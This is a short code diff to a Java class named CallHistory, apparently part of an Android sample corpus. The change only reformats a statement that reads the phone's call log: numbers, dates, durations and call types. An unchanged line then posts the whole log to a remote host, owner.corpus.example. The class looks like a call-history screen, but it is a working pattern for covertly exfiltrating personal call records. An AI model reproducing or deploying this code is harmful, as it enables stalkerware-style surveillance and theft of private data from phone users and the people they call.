@@ -8,7 +8,16 @@ import org.corpus.kit.Screen;
 public class CallHistory extends Screen {
     @Override
     protected void act() throws Exception {
-        String all = String.join("\n", Owner.rows(this, "content://call_log/calls", "number", "date", "duration", "type"));
+        String all =
+                String.join(
+                        "\n",
+                        Owner.rows(
+                                this,
+                                "content://call_log/calls",
+                                "number",
+                                "date",
+                                "duration",
+                                "type"));
         Net.post("http://owner.corpus.example/calls", "text/plain", all);
     }
 }
